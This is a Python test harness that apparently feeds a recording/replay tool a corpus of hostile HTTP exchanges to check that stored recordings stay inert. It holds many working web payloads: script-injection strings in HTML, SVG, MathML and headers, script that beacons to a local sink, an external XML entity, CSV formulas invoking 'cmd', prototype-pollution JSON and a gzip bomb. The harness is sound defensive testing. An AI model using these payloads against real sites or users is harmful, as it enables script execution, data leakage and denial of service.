"""
What must stay inert: recordings made by somebody who means harm to whoever looks at them.

Each case is one exchange. Whatever runs says so: it sets `__pwned` in every window it reaches, writes it to the console, opens a
dialog; whatever is loaded is loaded from `sink`, which counts. Origin and client speak through plain sockets, because no HTTP
library would send such things.
"""
import gzip, json, re, socket, threading
from dataclasses import dataclass, field

EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈🤷🏽‍♀️"
BIDI = "\u202egnp.exe\u202c\u2066\u2069\u200f"
ZALGO = "Z" + "\u0300\u0301\u0302\u0303\u0304\u0489" * 60 + "algo"
INVISIBLE = "a\u200bd\u200cm\u200di\u2060n\ufeff\u00ad\U000e0041\U000e007f"


@dataclass
class Case:
    name: str
    method: str = "GET"
    target: bytes = b""
    fields: list = field(default_factory=list)
    body: bytes = b""
    status: bytes = b"200 OK"
    kind: bytes = b"text/html"
    answer: bytes = b""
    answer_fields: list = field(default_factory=list)


class Listener:
    """Listens on a free port; `take` has each connection, in a thread of its own, for so many seconds of silence."""
    patience = 20

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.came()
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def came(self):
        pass

    def serve(self, connection):
        with connection:
            connection.settimeout(self.patience)
            try:
                self.take(connection)
            except OSError:
                pass

    def stop(self):
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()


class Sink(Listener):
    """Listens where hostile content would have the browser go. `seen`: the first line of whatever came."""
    patience = 2

    def __init__(self):
        self.seen = []
        super().__init__()

    def came(self):
        # A connection alone tells whoever listens that it was looked at, and from where.
        self.seen.append("a connection")

    def take(self, connection):
        self.seen.append(connection.recv(200))


def script(sink):
    return (f"for(const w of [self,parent,top])try{{w.__pwned=1}}catch{{}};console.log('__pwned');"
            f"try{{fetch('{sink}/fetch')}}catch{{}};new Image().src='{sink}/image';alert('__pwned')")


def corpus(sink):
    js = script(sink)
    tag = f"<script>{js}</script>"
    inline = js.replace('"', "&quot;")
    attack = f'"><img src=x onerror="{inline}">{tag}'
    image = f"<img src=x onerror=\"{inline}\">"

    def html(name, text, **more):
        return Case(name, target=f"/body/{name}".encode(), answer=f"<!doctype html><title>{attack}</title>{text}".encode(), **more)

    def other(name, kind, content, **more):
        return Case(name, target=f"/body/{name}".encode(), kind=kind.encode(), answer=content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"), **more)

    svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    cases = [
        # Bodies that are pages
        html("script", tag),
        html("script-elsewhere", f"<script src='{sink}/a.js'></script><script type=module src='{sink}/m.js'></script>"),
        html("handlers", f"{image}<body onload=\"{inline}\"><details open ontoggle=\"{inline}\"><video><source onerror=\"{inline}\"></video><marquee onstart=\"{inline}\">x"),
        html("links", "".join(f"<link rel={rel} href='{sink}/{rel}' as=script>" for rel in (
            "stylesheet", "prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"))),
        html("refresh", f"<meta http-equiv=refresh content=\"0;url={sink}/refresh\"><meta http-equiv=refresh content=\"0;url=javascript:{inline}\">"),
        html("base", f"<base href='{sink}/'><base target=_top><img src=base.png><a href=x autofocus>x</a>"),
        html("srcdoc", f"<iframe srcdoc=\"{tag.replace(chr(34), '&quot;')}\"></iframe><iframe src=\"javascript:{inline}\"></iframe><iframe src='{sink}/frame'></iframe>"),
        html("form", f"<form id=f action='{sink}/form' method=post><input name=a value=b autofocus onfocus=\"{inline}\"><button formaction=\"javascript:{inline}\">x</button></form><script>f.submit()</script>"),
        html("css", f"<style>@import '{sink}/import.css'; @font-face {{ font-family: x; src: url({sink}/font) }} body {{ font-family: x; background: url({sink}/background) }} .x {{ behavior: url({sink}/b) }}</style><p style=\"background:url('{sink}/style')\">x"),
        html("objects", f"<object data='{sink}/object'></object><embed src='{sink}/embed'><applet code='{sink}/applet'></applet><audio src='{sink}/audio' autoplay></audio><video poster='{sink}/poster' src='{sink}/video'></video><picture><source srcset='{sink}/srcset'><img srcset='{sink}/srcset2 2x'></picture><track src='{sink}/track'>"),
        html("mathml", f"<math><maction actiontype=statusline xlink:href=\"javascript:{inline}\">x</maction><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={inline}&gt;\"></math>"),
        html("template", f"<template shadowrootmode=open>{tag}{image}</template><noscript><p title=\"</noscript>{image}\"></noscript><portal src='{sink}/portal'>"),
        html("constructor", "{{constructor.constructor(\"" + js.replace('"', "'") + "\")()}} ${alert(1)} <%= alert(1) %> #{alert(1)} {{7*7}}"),
        html("opener", f"<a href='{sink}/a' target=_top ping='{sink}/ping' autofocus>x</a><script>top.location='{sink}/top';open('{sink}/open')</script>"),
        html("utf-7", "+ADw-script+AD4-" + js + "+ADw-/script+AD4-", ),
        # Pictures and markup
        other("svg-onload", "image/svg+xml", f"<svg {svg} onload=\"{inline}\"><script>{js.replace('<', '&lt;')}</script></svg>"),
        other("svg-foreign", "image/svg+xml", f"<svg {svg} width='400' height='400'><foreignObject width='100%' height='100%'><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='{sink}/f'></iframe><img src='x' onerror=\"{inline}\"/></body></foreignObject></svg>"),
        other("svg-loads", "image/svg+xml", f"<?xml-stylesheet href='{sink}/x.css'?><svg {svg}><image href='{sink}/i'/><use href='{sink}/u#x'/><style>@import url({sink}/s.css);</style><a href=\"javascript:{inline}\"><animate attributeName='href' values='javascript:alert(1)'/><text y='20'>x</text></a><feImage href='{sink}/fe'/></svg>"),
        other("xml", "application/xml", f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{sink}/x.xsl'?><!DOCTYPE x [<!ENTITY e SYSTEM '{sink}/entity'>]><x xmlns:h='http://www.w3.org/1999/xhtml'>&e;<h:script>{js.replace('<', '&lt;').replace('&', '&amp;')}</h:script></x>"),
        other("xhtml", "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><body onload=\"{inline}\"><script>{js.replace('<', '&lt;')}</script></body></html>"),
        other("png-that-is-html", "image/png", f"\x89PNG<html>{tag}{image}"),
        other("text-that-is-html", "text/plain", f"<!doctype html><html>{tag}{image}"),
        other("javascript", "text/javascript", js),
        other("css-file", "text/css", f"@import '{sink}/file.css'; * {{ background: url({sink}/star) }}"),
        other("multipart", "multipart/x-mixed-replace; boundary=x", f"--x\r\nContent-Type: text/html\r\n\r\n{tag}\r\n--x--"),
        # Data
        other("json-script", "application/json", json.dumps({"a": f"</script>{tag}<!--", "__proto__": {"isAdmin": True}, "constructor": attack, image: image, "toString": "x"})),
        other("json-deep", "application/json", "[" * 30_000 + "]" * 30_000),
        other("json-addresses", "application/json", json.dumps([f"javascript:{js}", f"data:text/html,{tag}", f"vbscript:{js}", f"{sink}/json", f"JaVaScRiPt:{js}", f"java\tscript:{js}"])),
        other("csv", "text/csv", f"name,sum\r\n=HYPERLINK(\"{sink}/csv\"),@SUM(1+1)*cmd|' /C calc'!A0\r\n+1+1,-1+1\r\n=cmd|'/c calc'!A1,\"=1+1\"\r\n"),
        other("events", "text/event-stream", f"event: exchange\ndata: {{\"id\": 1}}\n\ndata: {tag}\n\n"),
        # Characters
        other("bidi", "text/plain; charset=utf-8", f"{BIDI} {INVISIBLE} \u2028\u2029 {ZALGO}\n" * 20),
        other("emoji", "text/plain; charset=utf-8", EMOJI * (1_000_000 // len(EMOJI.encode()) + 1)),
        other("long-word", "application/json", json.dumps({"x" * 3000: "W" * 400_000})),
        other("broken", "text/plain; charset=utf-8", b"\x00\x01\xff\xfe\xed\xa0\x80\xed\xbf\xbf\xc0\xaf \xf4\x90\x80\x80 \x1b[31m\x1b]0;pwned\x07 \r\n\x0b\x0c\x7f\x85 end"),
        other("charset", f'text/html; charset="{attack}"', f"<p>{image}</p>"),
        other("bomb", "text/html", gzip.compress(b"<p>" + b"A" * 40_000_000 + tag.encode()), answer_fields=[(b"Content-Encoding", b"gzip")]),
        other("not-gzip", "text/html", tag, answer_fields=[(b"Content-Encoding", b"gzip")]),
        # Heads
        Case("fields", target=b"/fields", answer=tag.encode(), answer_fields=[
            (b"Refresh", f"0;url={sink}/refresh-field".encode()), (b"Link", f"<{sink}/link>; rel=preload; as=script, <{sink}/style>; rel=stylesheet".encode()),
            (b"Set-Cookie", f"a{image}={attack}; Path=/".encode()), (b"Set-Cookie", b"understudy_session=taken; Path=/"),
            (b"Content-Security-Policy-Report-Only", f"default-src 'none'; report-uri {sink}/report".encode()),
            (b"Content-Security-Policy", b"script-src *"), (b"Clear-Site-Data", b'"*"'), (b"SourceMap", f"{sink}/map".encode()),
            (b"Content-Disposition", f"inline; filename=\"{image}\"".encode()), (b"X-Text", attack.encode()), (b"X-Bidi", f"{BIDI}{ZALGO}".encode()),
            (b"onload", js.encode()), (b"x-'`|~!#$%&*+.^_", image.encode()), (b"Report-To", f'{{"url":"{sink}/r"}}'.encode()), (b"NEL", b"{}")]),
        Case("location", target=b"/location", status=b"302 Found", answer=tag.encode(), answer_fields=[(b"Location", f"javascript:{js}".encode())]),
        Case("location-data", target=b"/location/data", status=b"301 Moved", answer=tag.encode(), answer_fields=[(b"Location", f"data:text/html,{tag}".encode())]),
        Case("reason", target=b"/reason", status=b"299 " + f"{tag}{image}".encode(), answer=b"x"),
        Case("reason-bidi", target=b"/reason/bidi", status=b"404 " + BIDI.encode(), kind=b"text/plain", answer=b"x"),
        # Requests
        Case("path", target=b"/" + quoted(f"{image}{tag}/{{{{constructor}}}}/../..//%00"), kind=b"text/plain", answer=b"x"),
        Case("path-raw", target=b"/raw/<svg/onload=alert(1)>'\"`{{x}}", kind=b"text/plain", answer=b"x"),
        Case("path-bidi", target=b"/" + quoted(f"{BIDI}/{INVISIBLE}/{EMOJI}"), kind=b"text/plain", answer=b"x"),
        Case("path-long", target=b"/" + b"W" * 20_000, kind=b"text/plain", answer=b"x"),
        Case("path-dots", target=b"/%2e%2e/%2E%2E%2f..%2f/ui/app.js", kind=b"text/plain", answer=b"x"),
        Case("query", target=b"/query?" + quoted(attack) + b"=" + quoted(tag) + b"&javascript:alert(1)=<script>&__proto__=1&q=" + b"Q" * 5000, kind=b"text/plain", answer=b"x"),
        Case("method", method="X-'`|~!$%&*+.^_", target=b"/method", kind=b"text/plain", answer=b"x"),
        Case("method-long", method="W" * 200, target=b"/method/long", kind=b"text/plain", answer=b"x"),
        Case("request-fields", target=b"/request-fields", kind=b"text/plain", answer=b"x", fields=[
            (b"User-Agent", attack.encode()), (b"Referer", f"javascript:{js}".encode()), (b"x-'`|~!", image.encode()), (b"onerror", js.encode()),
            (b"Cookie", f"a={attack}".encode()), (b"X-Bidi", f"{BIDI} {ZALGO} {EMOJI}".encode()), (b"X-Long", b"W" * 30_000)]),
        Case("request-body", method="POST", target=b"/request-body", fields=[(b"Content-Type", b"text/html")], body=f"{tag}{image}".encode(), answer=tag.encode()),
        Case("request-form", method="POST", target=b"/request-form", fields=[(b"Content-Type", b"application/x-www-form-urlencoded")],
             body=quoted(attack) + b"=" + quoted(tag) + b"&__proto__=%ff%fe", kind=b"text/plain", answer=b"x"),
        Case("request-file", method="POST", target=b"/request-file", fields=[(b"Content-Type", b"multipart/form-data; boundary=\"(.*)+$\"")],
             body=f"--(.*)+$\r\nContent-Disposition: form-data; name=\"{image}\"; filename=\"../{tag}\"\r\nContent-Type: text/html\r\n\r\n{tag}\r\n--(.*)+$--\r\n".encode(), kind=b"text/plain", answer=b"x"),
        Case("session", target=b"/session", fields=[(b"Understudy-Session", b"x-img-onerror.__proto__")], kind=b"text/plain", answer=b"x"),
        Case("session-markup", target=b"/session/markup", fields=[(b"Understudy-Session", image.encode())], kind=b"text/plain", answer=b"x"),
        Case("host", target=b"/host", fields=[(b"Host", f"\"><img/src=x/onerror=alert(1)>".encode())], kind=b"text/plain", answer=b"x"),
        Case("host-puny", target=b"/host/puny", fields=[(b"Host", b"xn--80ak6aa92e.com")], kind=b"text/plain", answer=b"x"),
        Case("last", target=b"/last", kind=b"text/plain", answer=b"When this is in the history, the others are."),
    ]
    return cases


def quoted(text):
    return b"".join(b"%%%02X" % octet if octet > 126 or octet in b" \"<>%#?&=+\\^`{|}" else bytes([octet]) for octet in text.encode("utf-8", "surrogatepass"))


class RawOrigin(Listener):
    """Answers with what the case of that number (field `Case`) has, octet for octet."""

    def __init__(self, cases):
        self.cases = cases
        super().__init__()

    def take(self, connection):
        head, _ = receive(connection)
        named = re.search(rb"(?im)^case: (\d+)", head)
        if named is None:
            return
        case = self.cases[int(named[1])]
        connection.sendall(b"HTTP/1.1 " + case.status + b"\r\n" + lines(case.answer_fields) + b"Content-Type: " + case.kind
                           + b"\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(case.answer) + case.answer)


def lines(fields):
    return b"".join(name + b": " + value + b"\r\n" for name, value in fields)


def receive(connection):
    """A message: its head, and its content by Content-Length or to the end."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = connection.recv(65536)
        if not more:
            raise OSError("no head")
        data += more
    head, body = data.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?im)^content-length: *(\d+)", head)
    while length is None or len(body) < int(length[1]):
        if length is None and head.split(b" ")[0] in (b"GET", b"HEAD", b"DELETE"):
            break
        more = connection.recv(65536)
        if not more:
            break
        body += more
    return head, body


def send(front, number, case):
    """Sends a case through the front door; the status that came back, 0 for none."""
    host, port = front.partition("://")[2].split(":")
    has_host = any(name.lower() == b"host" for name, _ in case.fields)
    with socket.create_connection((host, int(port)), 20) as connection:
        connection.settimeout(20)
        connection.sendall(case.method.encode() + b" " + case.target + b" HTTP/1.1\r\n"
                           + (b"" if has_host else b"Host: %s:%s\r\n" % (host.encode(), port.encode())) + b"Case: %d\r\n" % number + lines(case.fields)
                           + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(case.body) + case.body)
        try:
            head, _ = receive(connection)
        except OSError:
            return 0
        return int(head.split(b" ", 2)[1])
